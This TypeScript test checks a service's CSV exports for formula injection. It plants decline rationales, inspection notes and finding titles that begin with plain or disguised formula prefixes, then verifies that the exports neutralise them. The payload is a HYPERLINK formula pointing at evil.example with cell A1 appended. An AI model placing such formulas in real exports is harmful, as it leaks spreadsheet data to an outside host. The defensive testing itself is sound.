/**
 * CSV injection: free text that starts the way a spreadsheet formula does, as a decline rationale
 * (purchase-option), as the note of a failed inspection check (intake; it may travel to
 * purchase-option's audit) and as a finding's title (results), then every CSV export downloaded
 * through the gateway as finance would. No cell may start as a formula, and every decline rationale
 * and finding title must be found in the exports that carry it, or nothing was checked.
 */
import { parseCsv, RackevalSystem, waitFor } from '@rackeval/testing';
import { send } from '../support/http';
import { CheckOutcome, curl, Violation } from '../support/outcome';
import { Caller } from './callers';
import { FIXTURE_GENERATION } from './programme-fixture';

/** Formula starts, plain and disguised: leading spaces, tab, ideographic space, full-width signs. */
export const FORMULA_PREFIXES = ['=', '+', '-', '@', ' =', '＝', '＋', '－', '＠', '\t=', '　=', '  @'];
const MARKER = 'SECCSV';

/** What a spreadsheet runs: the rule written again here, independently of the service's. */
const FORMULA = /^[\t\r\n]|^[\s\u3000]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
export const startsAsFormula = (cell: string) => FORMULA.test(cell);

export const formula = (prefix: string, marker: string) => `${prefix}HYPERLINK("http://evil.example/?"&A1,"${marker}")`;

export const inspectionMarker = (index: number) => `${MARKER}${index}I`;
export const inspectionNote = (index: number) => formula(FORMULA_PREFIXES[index % FORMULA_PREFIXES.length], inspectionMarker(index));

/** What each planted text is, by the exports that must carry it. */
type Planted = 'decline' | 'finding' | 'inspection';
const EXPORTS: Record<string, { path: string; carries: Planted[] }> = {
  'options export': { path: '/api/purchase-option/v1/options/export.csv', carries: ['decline'] },
  'audit export': { path: '/api/purchase-option/v1/audit/export.csv', carries: ['decline'] },
  'findings report': { path: `/api/results/v1/findings/report?generation=${FIXTURE_GENERATION}&format=csv`, carries: ['finding'] },
};

export async function checkCsvInjection(system: RackevalSystem, callers: Caller[], serials: string[]): Promise<CheckOutcome> {
  const token = (role: string) => callers.find((caller) => caller.role === role)!.token!;
  const finance = token('finance');
  const violations: Violation[] = [];
  /** Markers stored, and what carried them. */
  const planted = new Map<string, Planted>();
  let tried = 0;
  const store = async (who: string, url: string, body: Record<string, unknown>, marker: string, kind: Planted, stored: number) => {
    const answer = await send('POST', url, { token: token(who), body: JSON.stringify(body) });
    // Refusing such text at the door is safe too; only what was stored must come out neutralised.
    if (answer.status === stored) planted.set(marker, kind);
    else if (answer.status >= 500)
      violations.push({
        what: `POST ${url} with ${JSON.stringify(body).slice(0, 60)}…: ${answer.status}`,
        reproduce: curl('POST', url, who, JSON.stringify(body)),
      });
  };
  const findings = `${system.url('results')}/v1/findings`;
  for (const [index, prefix] of FORMULA_PREFIXES.entries()) {
    const serial = serials[index];
    const decline = `${MARKER}${index}D`;
    const decision = `${system.url('purchase-option')}/v1/options/${serial}/decision`;
    await store('finance', decision, { decision: 'DECLINE', rationale: formula(prefix, decline) }, decline, 'decline', 200);
    const title = `${MARKER}${index}F`;
    // results hears of the fixture's racks from intake's events: until then a finding on one is a 404 UNKNOWN_RACK.
    await waitFor(
      `finding on ${serial}`,
      async () => {
        const answer = await send('POST', findings, {
          token: token('test-engineer'),
          body: JSON.stringify({ rackSerial: serial, title: formula(prefix, title) }),
        });
        if (answer.status === 201) planted.set(title, 'finding');
        else if (answer.status >= 500)
          violations.push({ what: `POST ${findings}: ${answer.status}`, reproduce: curl('POST', findings, 'test-engineer') });
        // 404: results has not heard of the rack yet; 400: the title was refused at the door, which is safe.
        return answer.status !== 404;
      },
      { timeoutMs: 30_000, intervalMs: 200 },
    );
    // The inspection note was stored by intake with the fixture; it is checked wherever it shows up.
    planted.set(inspectionMarker(index), 'inspection');
  }
  const seen = new Map<string, number>();
  for (const [name, { path, carries }] of Object.entries(EXPORTS)) {
    const url = `${system.gatewayUrl()}${path}`;
    const answer = await send('GET', url, { token: finance });
    if (answer.status !== 200) {
      violations.push({ what: `${name}: ${answer.status}`, reproduce: curl('GET', url, 'finance') });
      continue;
    }
    const cells = parseCsv(answer.text).flat();
    for (const [marker, kind] of planted) {
      const found = cells.filter((cell) => cell.includes(`"${marker}"`));
      seen.set(marker, (seen.get(marker) ?? 0) + found.length);
      if (carries.includes(kind) && !found.length)
        violations.push({
          what: `${name}: the ${kind} text ${marker} is missing, so it could not be checked`,
          reproduce: curl('GET', url, 'finance'),
        });
      for (const cell of found) {
        tried++;
        if (startsAsFormula(cell))
          violations.push({
            what: `${name}: cell ${JSON.stringify(cell.slice(0, 40))} reaches a spreadsheet as a formula`,
            reproduce: curl('GET', url, 'finance'),
          });
      }
    }
  }
  const found = [...seen.values()].filter(Boolean).length;
  const target = `${Object.keys(EXPORTS).length} exports, ${found} planted texts found (${FORMULA_PREFIXES.length} prefixes; decline rationales, inspection notes, finding titles)`;
  return {
    check: 'CSV injection',
    target,
    tried,
    violations,
    skipped: planted.size ? undefined : 'no formula-like text was stored, nothing to export',
  };
}
